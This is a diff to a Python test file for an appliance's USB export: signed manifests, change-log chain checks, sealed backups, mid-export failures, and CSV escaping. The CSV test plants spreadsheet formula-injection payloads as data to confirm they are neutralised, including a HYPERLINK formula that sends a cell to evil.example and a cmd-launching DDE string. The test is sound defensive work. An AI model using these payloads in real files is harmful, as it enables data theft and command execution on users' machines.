@@ -1,7 +1,12 @@
-"""USB export, its offline check, T12 (the stick fills up or is pulled mid-export), backups and restore."""
+"""USB export, its offline check, T12 (the stick fills up or is pulled mid-export), CSV safe to open, backups and
+restore. (No secret on the stick, the sealed backup: test_export_secrets.py.)"""
 
 from __future__ import annotations
 
+import asyncio
+import csv
+import hashlib
+import io
 import json
 import os
 import shutil
@@ -10,11 +15,18 @@ import sys
 
 import pytest
 
+from appliance import crypto, csvsafe
+from appliance.db.store import Store
+from appliance.model.registration import CoupleUpdate
+from appliance.services import Context, registration
+from appliance.settings import Settings
 from tests.conftest import ROOT
 
+PASSPHRASE = "the organiser's long passphrase"
 
-def floorcraft(data_dir, *args, check=False) -> subprocess.CompletedProcess:
-    env = {"FLOORCRAFT_DATA_DIR": str(data_dir), "PATH": os.environ.get("PATH", "")}
+
+def floorcraft(data_dir, *args, check=False, env=None) -> subprocess.CompletedProcess:
+    env = {"FLOORCRAFT_DATA_DIR": str(data_dir), "PATH": os.environ.get("PATH", ""), **(env or {})}
     run = subprocess.run([sys.executable, "-m", "appliance", *args], cwd=ROOT, capture_output=True, timeout=120,
                          env=env)
     if check:
@@ -30,13 +42,19 @@ def judged(tmp_path_factory):
     return data
 
 
-def test_an_export_holds_results_log_and_backup_under_a_signed_manifest(judged, tmp_path):
-    run = floorcraft(judged, "export", str(tmp_path), check=True)
-    folder = next(tmp_path.glob("floorcraft-export-*"))
+def sealing(tmp_path) -> dict:
+    (tmp_path / "passphrase").write_text(PASSPHRASE + "\n")
+    return {"FLOORCRAFT_BACKUP_PASSPHRASE_FILE": str(tmp_path / "passphrase")}
+
+
+def test_an_export_holds_results_log_and_sealed_backup_under_a_signed_manifest(judged, tmp_path):
+    run = floorcraft(judged, "export", str(tmp_path / "stick"), check=True, env=sealing(tmp_path))
+    folder = next((tmp_path / "stick").glob("floorcraft-export-*"))
     assert b"exported to" in run.stdout
     names = {p.name for p in folder.iterdir()}
     assert {"MANIFEST.json", "results.json", "results.csv", "results.html", "change_log.jsonl",
-            "floorcraft.sqlite3"} <= names
+            "floorcraft-backup.sqlite3.sealed"} <= names
+    assert "floorcraft.sqlite3" not in names  # the raw database (every device's key) never leaves the box
     assert not [n for n in names if n.endswith(".partial")]
     manifest = json.loads((folder / "MANIFEST.json").read_text())
     assert manifest["complete"] is True and manifest["signature"]
@@ -59,8 +77,64 @@ def test_verify_export_names_an_altered_file_and_an_altered_manifest(judged, tmp
     (folder / "MANIFEST.json").write_text(json.dumps(manifest))
     run = floorcraft(judged, "verify-export", str(folder))
     assert b"signature does not match" in run.stdout
-    run = floorcraft(judged, "verify-export", str(folder), "--key", "someone-else")
+    run = floorcraft(judged, "verify-export", str(folder), "--key", crypto.b64u(os.urandom(32)))
     assert b"another box's key" in run.stdout
+    run = floorcraft(judged, "verify-export", str(folder), "--key", "someone-else")
+    assert run.returncode == 2 and b"is not a box key" in run.stderr
+
+
+def _resign(judged, folder, change_log: bytes) -> None:
+    """Replace change_log.jsonl and sign the manifest again with the box's key (as the box would)."""
+    from appliance.export import _manifest_bytes, box_key
+
+    (folder / "change_log.jsonl").write_bytes(change_log)
+    manifest = json.loads((folder / "MANIFEST.json").read_text())
+    manifest.pop("signature")
+    manifest["files"]["change_log.jsonl"] = {"sha256": hashlib.sha256(change_log).hexdigest(),
+                                             "bytes": len(change_log)}
+    manifest["signature"] = crypto.b64u(box_key(judged).sign(_manifest_bytes(manifest)))
+    (folder / "MANIFEST.json").write_bytes(_manifest_bytes(manifest))
+
+
+def test_verify_export_checks_the_change_log_chain_up_to_the_signed_head(judged, tmp_path):
+    floorcraft(judged, "export", str(tmp_path), check=True)
+    folder = next(tmp_path.glob("floorcraft-export-*"))
+    lines = (folder / "change_log.jsonl").read_bytes().splitlines(keepends=True)
+    _resign(judged, folder, b"".join(lines[:-1]))
+    run = floorcraft(judged, "verify-export", str(folder))
+    assert run.returncode == 1 and b"not at the manifest's head" in run.stdout
+    row = json.loads(lines[5])
+    row["payload"] = row["payload"] + " "  # any change to a row's content
+    _resign(judged, folder, b"".join([*lines[:5], json.dumps(row).encode() + b"\n", *lines[6:]]))
+    run = floorcraft(judged, "verify-export", str(folder))
+    assert run.returncode == 1 and f"broken at seq {row['seq']}".encode() in run.stdout
+
+
+def test_every_csv_cell_that_a_spreadsheet_would_run_is_neutralised(judged, tmp_path):
+    data = tmp_path / "data"
+    shutil.copytree(judged, data)
+    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)", "-2+3", "+cmd|' /C calc'!A0"]
+    store = Store(data / "floorcraft.sqlite3")
+    try:
+        ctx = Context(store, Settings(data_dir=str(data)))
+        couples = store.read_sync(lambda conn: [r[0] for r in conn.execute("SELECT id FROM couples ORDER BY bib")])
+        for couple_id, name in zip(couples, names, strict=False):
+            asyncio.run(registration.update_couple(ctx, couple_id, CoupleUpdate(leader=name, follower=name)))
+    finally:
+        store.close()
+    floorcraft(data, "export", str(tmp_path / "stick"), check=True)
+    table = next((tmp_path / "stick").glob("floorcraft-export-*/results.csv")).read_text()
+    cells = [cell for row in csv.reader(io.StringIO(table)) for cell in row]
+    for name in names:
+        assert name not in cells and "'" + name in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:].isdigit())]
+
+
+def test_the_csv_helper_keeps_numbers_and_plain_text():
+    assert [csvsafe.cell(v) for v in ("-3", "+1.5", "2e3", -3, 1.5, "Anna", "", None)] == [
+        "-3", "+1.5", "2e3", -3, 1.5, "Anna", "", None]
+    assert [csvsafe.cell(v) for v in ("=1+1", "@A1", "\tx", "\rx", "-", "+", "-2+3")] == [
+        "'=1+1", "'@A1", "'\tx", "'\rx", "'-", "'+", "'-2+3"]
 
 
 T12 = r"""
@@ -82,7 +156,7 @@ def test_t12_a_stick_that_fails_mid_export_leaves_an_incomplete_manifest_and_the
     stick.mkdir()
     size = (judged / "floorcraft.sqlite3").stat().st_size // 2  # room for the small files, not the backup
     env = {"FLOORCRAFT_DATA_DIR": str(judged), "PATH": os.environ.get("PATH", ""), "PY": sys.executable,
-           "STICK": str(stick), "PYTHONPATH": str(ROOT)}
+           "STICK": str(stick), "PYTHONPATH": str(ROOT), **sealing(tmp_path)}
     run = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c", T12.replace("{size}", str(size))],
                          cwd=ROOT, capture_output=True, timeout=180, env=env)
     out = run.stdout.decode()
@@ -131,7 +205,7 @@ def test_t12_an_export_killed_half_way_says_incomplete_and_the_next_export_succe
                                    for i in range(30000)])
     store.close()
     stick = tmp_path / "stick"
-    env = {"FLOORCRAFT_DATA_DIR": str(data), "PATH": os.environ.get("PATH", "")}
+    env = {"FLOORCRAFT_DATA_DIR": str(data), "PATH": os.environ.get("PATH", ""), **sealing(tmp_path)}
     proc = subprocess.Popen([sys.executable, "-m", "appliance", "export", str(stick)], cwd=ROOT, env=env,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     deadline = time.monotonic() + 60
@@ -142,8 +216,8 @@ def test_t12_an_export_killed_half_way_says_incomplete_and_the_next_export_succe
     folder = next(stick.glob("floorcraft-export-*"))
     run = floorcraft(data, "verify-export", str(folder))
     assert run.returncode == 1 and b"INCOMPLETE" in run.stdout
-    assert not (folder / "floorcraft.sqlite3").exists()  # no half-written file under its real name
-    floorcraft(data, "export", str(stick), check=True)
+    assert not (folder / "floorcraft-backup.sqlite3.sealed").exists()  # no half-written file under its real name
+    floorcraft(data, "export", str(stick), check=True, env=sealing(tmp_path))
     assert floorcraft(data, "verify-export", str(folder)).returncode == 0
 
 
